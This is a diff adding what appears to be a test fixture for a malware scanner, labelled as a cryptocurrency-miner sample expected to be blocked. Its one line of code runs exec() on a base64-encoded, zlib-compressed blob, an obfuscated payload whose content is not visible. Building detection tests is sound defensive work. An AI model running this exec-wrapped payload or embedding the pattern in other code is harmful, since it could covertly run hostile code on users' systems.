@@ -1,0 +1,3 @@
+# expect: BLOCKED category: miner variant-of: risky/miner/python_hashing_pool.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxFUE1PAyEUvPMrXvACUUndRA9NevBu0h68GWNY9rWgfGx4bFrT9L8Lu22cE/DmDTNzB68wThkfd7/FpgjBRcxAUx9cKS4egKzOSFASaBhT8oq5MKZcwGqy3vW36zeleDtTMj9YGNttt2+wAcFPIatuliZlUuAP0FVIZlKMlbDwlcmoC361RzTFpSiagGQxRYOVtmJH6zzCe55wzaBicAekUkdXM6q67Z5fxJ73vmqe580LVxhNGlBIqSyeliUhZwW3v4ooKjoXOrpiBV81cLl80tA8KcI4aO9Fi6qGKYwkzjxg7W3ga+A1Xy1MLd3ViHzUWQeqo4/Zx+dF/huZlZdg9xt4+gNBWH98')))
